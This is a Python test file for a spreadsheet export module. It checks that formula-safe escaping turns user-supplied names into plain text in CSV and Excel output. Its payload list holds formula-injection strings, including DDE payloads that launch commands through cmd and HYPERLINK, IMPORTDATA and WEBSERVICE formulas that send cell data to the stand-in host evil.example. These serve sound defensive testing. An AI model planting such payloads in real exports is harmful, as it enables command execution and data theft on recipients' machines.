"""Exports: whatever a name holds, no spreadsheet runs it."""

import csv
import io

import pytest
from hypothesis import given
from hypothesis import strategies as st
from openpyxl import Workbook, load_workbook

from connector.domain.problems import FieldError
from connector.spreadsheets.cells import read_phone
from connector.spreadsheets.exporting import RejectedRow, formula_safe, rejected_csv

STARTS = "=+-@\t\r\n\uff1d\uff0b\uff0d\uff20"
PAYLOADS = [
    "=1+1",
    '=HYPERLINK("http://evil.example/?"&A1,"klik")',
    '=IMPORTDATA("http://evil.example")',
    "=cmd|'/C calc'!A0",
    "+cmd|'/C calc'!A0",
    "-2+3+cmd|'/C calc'!A0",
    "@SUM(1+1)*cmd|'/C calc'!A0",
    "\t=1+1",
    "\r=1+1",
    "\n=1+1",
    " =1+1",
    "\u00a0=1+1",
    "\u200b=1+1",
    "\ufeff=1+1",
    "\uff1d1+1",
    "\uff0b1",
    "\uff0d1",
    "\uff20SUM(1)",
    "Siti;=1+1",
    "Siti,=1+1",
    "Siti\t=1+1",
    "Siti\n=1+1",
    "Siti|@SUM(1)",
    ";=1+1",
    '";=1+1',
    "+6281234567890",
    "-",
    "=",
    "==1",
    "=+1",
    "+-1",
    "-@1",
    "@",
    "\x00=1",
    "   @SUM(1)",
    "\t\t+1",
    "=DDE(1)",
    "=A1",
    '=WEBSERVICE("http://evil.example")',
    '=IMAGE("http://evil.example")',
]


@pytest.mark.parametrize("payload", PAYLOADS, ids=lambda text: ascii(text)[:20])
def test_a_payload_is_text_in_every_program(payload: str) -> None:
    text = rejected_csv([RejectedRow(2, {"nama": payload}, [FieldError("phone", "phone_invalid")])])

    for delimiter in ",;\t|":
        for row in csv.reader(io.StringIO(text.removeprefix("\ufeff"), newline=""), delimiter=delimiter):
            for cell in row:
                assert cell.lstrip(' "')[:1] not in tuple(STARTS)
    book = Workbook()
    assert book.active is not None
    book.active["A1"] = formula_safe(payload.replace("\x00", ""))
    out = io.BytesIO()
    book.save(out)
    sheet = load_workbook(io.BytesIO(out.getvalue())).active
    assert sheet is not None
    assert sheet["A1"].data_type == "s"


@given(st.text(max_size=30))
def test_guarding_never_leaves_a_formula_at_the_start(text: str) -> None:
    guarded = formula_safe(text)

    assert guarded[:1] not in tuple(STARTS)
    assert formula_safe(guarded) == guarded or guarded.startswith("'")


def test_plain_text_stays_as_it_is_and_a_guarded_number_is_read_back() -> None:
    assert formula_safe("Siti Rahma, A3") == "Siti Rahma, A3"
    assert formula_safe("A-3 + 2") == "A-3 + 2"
    assert read_phone(formula_safe("+6281234567890"), "ID") == "+6281234567890"


def test_refused_rows_go_back_with_their_line_and_their_fault() -> None:
    rows = [
        RejectedRow(3, {"nama": "Siti", "no wa": "0812"}, [FieldError("phone", "phone_invalid")]),
        RejectedRow(9, {"nama": "Budi", "kamar": "A4"}, [FieldError("amount", "amount_invalid")]),
    ]

    text = rejected_csv(rows, say=lambda error: f"Periksa {error.field}.")

    read = list(csv.reader(io.StringIO(text.removeprefix("\ufeff"), newline="")))
    assert read == [
        ["line", "nama", "no wa", "kamar", "problem"],
        ["3", "Siti", "0812", "", "Periksa phone."],
        ["9", "Budi", "", "A4", "Periksa amount."],
    ]
